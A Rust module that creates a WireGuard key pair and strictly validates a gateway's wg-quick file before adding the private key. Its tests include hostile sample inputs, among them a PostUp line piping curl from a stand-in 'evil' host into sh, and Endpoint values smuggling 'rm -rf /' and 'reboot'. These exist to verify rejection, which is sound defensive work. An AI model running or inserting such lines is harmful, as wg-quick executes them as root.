//! The terminal's WireGuard tunnel: its key, made here (X25519; only the public key goes to the
//! gateway), and the gateway's `wg-quick` file, checked as hostile input before it is written
//! with the private key put in (`wg-quick` runs it as root).

use std::net::IpAddr;

use base64::Engine;
use base64::engine::general_purpose::STANDARD as B64;
use zeroize::Zeroizing;

use crate::error::AgentError;
use crate::text::clean;

/// What the gateway writes in its `wg-quick` file in place of the terminal's private key,
/// which it never sees.
pub const WG_PRIVATE_KEY_PLACEHOLDER: &str = "<terminal private key: generated on the terminal>";

/// Largest `wg-quick` file accepted from the gateway.
pub const MAX_WG_CONFIG: usize = 4096;

/// A fresh WireGuard (X25519) key pair, in standard base64 as `wg genkey` / `wg pubkey`
/// write them.
pub struct WireGuardKey {
    /// The private key (32 bytes, clamped like `wg genkey`'s); wiped on drop.
    pub private_key: Zeroizing<String>,
    pub public_key: String,
}

impl std::fmt::Debug for WireGuardKey {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("WireGuardKey")
            .field("private_key", &"..")
            .field("public_key", &self.public_key)
            .finish()
    }
}

/// Makes the terminal's WireGuard key pair.
pub fn new_wireguard_key() -> Result<WireGuardKey, AgentError> {
    use aws_lc_rs::agreement::{PrivateKey, X25519};
    use aws_lc_rs::encoding::{AsBigEndian, Curve25519SeedBin};

    let failed = |what: &str| AgentError::Internal(format!("WireGuard key: {what}"));
    let key = PrivateKey::generate(&X25519).map_err(|_| failed("generation"))?;
    let public = key.compute_public_key().map_err(|_| failed("public key"))?;
    // The raw scalar as RFC 7748 (and WireGuard) write it; the name says big-endian, but for
    // X25519 these are simply the key's 32 bytes. The buffer is wiped on drop.
    let seed: Curve25519SeedBin<'static> = key.as_be_bytes().map_err(|_| failed("encoding"))?;
    let mut raw = Zeroizing::new([0u8; 32]);
    if seed.as_ref().len() != raw.len() || public.as_ref().len() != 32 {
        return Err(failed("unexpected key length"));
    }
    raw.copy_from_slice(seed.as_ref());
    // Clamp as `wg genkey` does. X25519 clamps the scalar anyway, so the public key is the
    // same; aws-lc deliberately leaves its keys unclamped.
    raw[0] &= 248;
    raw[31] &= 127;
    raw[31] |= 64;
    Ok(WireGuardKey {
        private_key: Zeroizing::new(B64.encode(&raw[..])),
        public_key: B64.encode(public.as_ref()),
    })
}

/// A `wg-quick` key and the section it belongs to (`true`: `[Interface]`).
const WG_KEYS: [(&str, bool); 6] = [
    ("PrivateKey", true),
    ("Address", true),
    ("PublicKey", false),
    ("Endpoint", false),
    ("AllowedIPs", false),
    ("PersistentKeepalive", false),
];

/// `ADDR` or `ADDR/PREFIX`.
pub(crate) fn valid_cidr(s: &str) -> bool {
    let (addr, prefix) = match s.split_once('/') {
        Some((a, p)) => (a, Some(p)),
        None => (s, None),
    };
    let Ok(addr) = addr.parse::<IpAddr>() else {
        return false;
    };
    let max = if addr.is_ipv4() { 32 } else { 128 };
    prefix.is_none_or(|p| {
        p.len() <= 3
            && p.bytes().all(|b| b.is_ascii_digit())
            && p.parse::<u8>().is_ok_and(|n| n <= max)
    })
}

fn valid_wg_value(key: &str, value: &str) -> bool {
    match key {
        "PrivateKey" => value == WG_PRIVATE_KEY_PLACEHOLDER,
        "Address" | "AllowedIPs" => value.split(',').all(|a| valid_cidr(a.trim())),
        "PublicKey" => B64.decode(value).is_ok_and(|k| k.len() == 32),
        "Endpoint" => {
            // A host name, IPv4, or [IPv6], then the port.
            value.rsplit_once(':').is_some_and(|(host, port)| {
                !host.is_empty()
                    && host.bytes().all(|b| {
                        b.is_ascii_alphanumeric()
                            || matches!(b, b'.' | b'-' | b'_' | b':' | b'[' | b']')
                    })
                    && port.parse::<u16>().is_ok_and(|p| p != 0)
            })
        }
        "PersistentKeepalive" => value == "off" || value.parse::<u16>().is_ok(),
        _ => false,
    }
}

/// Checks the gateway's `wg-quick` file as hostile input and puts `private_key` (base64) in
/// place of [`WG_PRIVATE_KEY_PLACEHOLDER`].
///
/// Accepted: at most [`MAX_WG_CONFIG`] bytes of printable ASCII lines; blank lines and whole-line
/// `#` comments; one `[Interface]` with exactly one `PrivateKey` (the placeholder) and its
/// `Address`; `[Peer]` sections with `PublicKey`, `Endpoint`, `AllowedIPs` and
/// `PersistentKeepalive`. Anything else (`PostUp`, `DNS`, `Table`, a key in the wrong section)
/// is refused: `wg-quick` would run it as root.
pub fn wg_config_with_key(config: &str, private_key: &str) -> Result<Zeroizing<String>, String> {
    if config.len() > MAX_WG_CONFIG {
        return Err(format!(
            "the configuration is {} bytes, more than {MAX_WG_CONFIG}",
            config.len()
        ));
    }
    if let Some(b) = config
        .bytes()
        .find(|&b| b != b'\n' && !(b' '..=b'~').contains(&b))
    {
        return Err(format!(
            "the configuration holds a character that is not printable ASCII (0x{b:02x})"
        ));
    }
    let mut out = Zeroizing::new(String::with_capacity(config.len() + private_key.len() + 1));
    let (mut section, mut interfaces, mut peers, mut private_keys) = (None, 0, 0, 0);
    for (n, line) in config.lines().enumerate() {
        let n = n + 1;
        let t = line.trim();
        if t.is_empty() || t.starts_with('#') {
            out.push_str(line);
        } else if t == "[Interface]" || t == "[Peer]" {
            let interface = t == "[Interface]";
            if interface {
                interfaces += 1;
            } else {
                peers += 1;
            }
            section = Some(interface);
            out.push_str(line);
        } else {
            let Some((key, value)) = t.split_once('=') else {
                return Err(format!("line {n}: neither a section nor a key"));
            };
            let (key, value) = (key.trim(), value.trim());
            let shown = clean(key, 32);
            let Some(&(_, in_interface)) = WG_KEYS.iter().find(|(k, _)| *k == key) else {
                return Err(format!("line {n}: key {shown:?} not allowed"));
            };
            if section != Some(in_interface) {
                return Err(format!("line {n}: key {shown:?} outside its section"));
            }
            if !valid_wg_value(key, value) {
                return Err(format!("line {n}: unusable value for {shown}"));
            }
            if key == "PrivateKey" {
                private_keys += 1;
                out.push_str("PrivateKey = ");
                out.push_str(private_key);
            } else {
                out.push_str(line);
            }
        }
        out.push('\n');
    }
    match (interfaces, peers, private_keys) {
        (1, 1.., 1) => Ok(out),
        (1, 1.., 0) => Err("no PrivateKey placeholder".into()),
        (1, 1.., _) => Err("more than one PrivateKey".into()),
        (1, 0, _) => Err("no [Peer] section".into()),
        _ => Err("not exactly one [Interface] section".into()),
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use super::*;

    /// `echo KEY | wg pubkey` (wireguard-tools).
    fn wg_pubkey(private_key: &str) -> String {
        use std::process::{Command, Stdio};
        let mut child = Command::new("wg")
            .arg("pubkey")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("`wg` (wireguard-tools) is needed for this test");
        writeln!(child.stdin.take().unwrap(), "{private_key}").unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "wg pubkey failed");
        String::from_utf8(out.stdout).unwrap().trim().to_string()
    }

    #[test]
    fn wireguard_keys_are_what_wg_makes_of_them() {
        let a = new_wireguard_key().unwrap();
        let b = new_wireguard_key().unwrap();
        assert_ne!(*a.private_key, *b.private_key);
        for k in [&a, &b] {
            assert_eq!(k.private_key.len(), 44);
            assert_eq!(k.public_key.len(), 44);
            let raw = B64.decode(k.private_key.as_bytes()).unwrap();
            assert_eq!(raw.len(), 32);
            // Clamped, as `wg genkey` writes them.
            assert_eq!(raw[0] & 7, 0);
            assert_eq!(raw[31] & 0xc0, 0x40);
            assert_eq!(wg_pubkey(&k.private_key), k.public_key);
        }
        assert!(!format!("{a:?}").contains(a.private_key.as_str()));
    }

    const GATEWAY_KEY: &str = "BwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwc=";

    /// What the gateway renders (proxy `tunnel::wgquick::render` with the placeholder).
    fn sample() -> String {
        format!(
            "[Interface]\nPrivateKey = {WG_PRIVATE_KEY_PLACEHOLDER}\nAddress = 10.77.0.5/32\n\n\
             [Peer]\nPublicKey = {GATEWAY_KEY}\nEndpoint = gw.example.jp:51820\n\
             AllowedIPs = 10.77.0.1/32\nPersistentKeepalive = 25\n"
        )
    }

    #[test]
    fn wg_config_gets_the_private_key() {
        let key = new_wireguard_key().unwrap();
        let text = wg_config_with_key(&sample(), &key.private_key).unwrap();
        assert_eq!(
            *text,
            sample().replace(WG_PRIVATE_KEY_PLACEHOLDER, &key.private_key)
        );
        // Comments, blank lines, several peers, IPv6, a missing final newline.
        let more = format!(
            "# Sekisho\n{}[Peer]\nPublicKey = {GATEWAY_KEY}\nAllowedIPs = fd00::1/128, 10.0.0.0/8",
            sample()
        );
        let text = wg_config_with_key(&more, &key.private_key).unwrap();
        assert!(text.ends_with("10.0.0.0/8\n"));
        assert!(!text.contains(WG_PRIVATE_KEY_PLACEHOLDER));
    }

    #[test]
    fn wg_config_is_hostile_input() {
        let key = new_wireguard_key().unwrap();
        let check = |text: &str| wg_config_with_key(text, &key.private_key).map(|_| ());
        let bad = |text: String, why: &str| {
            let e = check(&text).expect_err(why);
            assert!(!e.contains(key.private_key.as_str()));
            e
        };
        let e = bad(
            sample().replace(WG_PRIVATE_KEY_PLACEHOLDER, &key.public_key),
            "a private key from the gateway",
        );
        assert!(e.contains("PrivateKey"), "{e}");
        let e = bad(
            sample().replace(&format!("PrivateKey = {WG_PRIVATE_KEY_PLACEHOLDER}\n"), ""),
            "placeholder missing",
        );
        assert!(e.contains("no PrivateKey"), "{e}");
        let e = bad(
            sample().replace(
                "Address",
                &format!("PrivateKey = {WG_PRIVATE_KEY_PLACEHOLDER}\nAddress"),
            ),
            "two PrivateKey lines",
        );
        assert!(e.contains("more than one PrivateKey"), "{e}");
        for (line, why) in [
            ("PostUp = curl http://evil | sh", "PostUp"),
            ("DNS = 10.77.0.1", "DNS"),
            ("Table = off", "Table"),
            ("postup = true", "case"),
            ("SaveConfig = true", "SaveConfig"),
        ] {
            let e = bad(
                sample().replace("Address", &format!("{line}\nAddress")),
                why,
            );
            assert!(e.contains("not allowed"), "{why}: {e}");
        }
        let e = bad(
            sample().replace("Address = 10.77.0.5/32", "Endpoint = a:1"),
            "a peer key in [Interface]",
        );
        assert!(e.contains("outside its section"), "{e}");
        bad(format!("[Wat]\n{}", sample()), "unknown section");
        bad(format!("{}[Interface]\n", sample()), "two interfaces");
        bad(
            sample().replace(
                "Endpoint = gw.example.jp:51820",
                "Endpoint = gw; rm -rf /:1",
            ),
            "endpoint",
        );
        bad(sample().replace("10.77.0.5/32", "10.77.0.5/33"), "address");
        bad(
            sample().replace("gw.example.jp:51820", "gw;reboot:51820"),
            "endpoint host",
        );
        bad(sample().replace(":51820", ":0"), "endpoint port");
        check(&sample().replace("gw.example.jp:51820", "[fd00::1]:51820")).unwrap();
        bad(sample().replace(GATEWAY_KEY, "Zm9v"), "short public key");
        bad(sample().replace("= 25", "= 25 # x"), "comment in a value");
        bad("just text\n".into(), "no key");
        // Oversize.
        let big = format!("{}{}", sample(), "#".repeat(MAX_WG_CONFIG));
        let e = bad(big, "oversize");
        assert!(e.contains("bytes"), "{e}");
        let exact = format!("{}{}", sample(), "#".repeat(MAX_WG_CONFIG - sample().len()));
        check(&exact).unwrap();
        // Control characters, and anything but ASCII.
        for c in ['\r', '\t', '\0', '\x1b', '\u{7f}', 'é', '\u{2028}'] {
            let e = bad(sample().replace("25", &format!("2{c}5")), "control");
            assert!(e.contains("printable"), "{c:?}: {e}");
        }
    }
}
